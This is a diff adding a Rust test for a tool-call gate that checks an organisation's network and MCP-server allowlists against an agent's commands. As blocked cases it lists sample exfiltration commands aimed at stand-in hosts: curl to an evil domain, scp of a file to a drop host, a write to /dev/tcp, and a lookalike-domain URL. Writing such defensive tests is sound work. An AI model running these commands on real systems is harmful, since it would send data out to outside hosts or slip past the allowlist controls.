@@ -851,3 +851,97 @@ fn the_gate_protects_itself() {
     ));
     assert_no_objection(&change("policy_settings", with_hook, json!({})));
 }
+
+/// The organisation's allowlists (issue 9): only approved MCP servers and hosts, whatever
+/// tool or shell client reaches them; numeric IP spellings resolve like a client resolves them.
+#[test]
+fn policy_allowlists_cover_mcp_servers_and_every_network_client() {
+    let dir = tempfile::tempdir().unwrap();
+    let policy = dir.path().join("policy.toml");
+    std::fs::write(
+        &policy,
+        "[network]\nallow = [\"github.com\", \"*.githubusercontent.com\"]\n[mcp]\nallow = [\"obsidian-mcp\"]\n",
+    )
+    .unwrap();
+    let run = |tool: &str, input: Value| {
+        let out = toolgate()
+            .env("TOOLGATE_POLICY", &policy)
+            .arg("hook")
+            .write_stdin(pre(tool, input))
+            .output()
+            .unwrap();
+        (
+            out.status.code().unwrap(),
+            String::from_utf8_lossy(&out.stderr).into_owned(),
+        )
+    };
+    let (code, stderr) = run(
+        "Bash",
+        json!({"command": "curl -s https://evil.example.net/x"}),
+    );
+    assert_eq!(code, 2, "{stderr}");
+    assert!(stderr.contains("policy.network-allowlist"), "{stderr}");
+    assert_eq!(
+        run(
+            "Bash",
+            json!({"command": "git clone https://github.com/org/repo"})
+        )
+        .0,
+        0
+    );
+    assert_eq!(
+        run(
+            "Bash",
+            json!({"command": "curl -s https://raw.githubusercontent.com/o/r/x"})
+        )
+        .0,
+        0
+    );
+    assert_eq!(
+        run(
+            "Bash",
+            json!({"command": "curl -s http://localhost:3000/health"})
+        )
+        .0,
+        0
+    );
+    assert_eq!(
+        run(
+            "Bash",
+            json!({"command": "scp notes.txt drop.example.net:/tmp/"})
+        )
+        .0,
+        2
+    );
+    assert_eq!(
+        run(
+            "Bash",
+            json!({"command": "cat f > /dev/tcp/203.0.113.5/80"})
+        )
+        .0,
+        2
+    );
+    assert_eq!(
+        run(
+            "WebFetch",
+            json!({"url": "https://githubusercontent.com.evil.example/", "prompt": "x"})
+        )
+        .0,
+        2
+    );
+    assert_eq!(
+        run(
+            "WebFetch",
+            json!({"url": "http://2130706433:8080/", "prompt": "x"})
+        )
+        .0,
+        0
+    );
+    let (code, stderr) = run("mcp__discord__send", json!({"channel": "x", "text": "hi"}));
+    assert_eq!(code, 2, "{stderr}");
+    assert!(stderr.contains("policy.mcp-allowlist"), "{stderr}");
+    assert_eq!(
+        run("mcp__obsidian-mcp__read_note", json!({"note": "daily"})).0,
+        0
+    );
+}
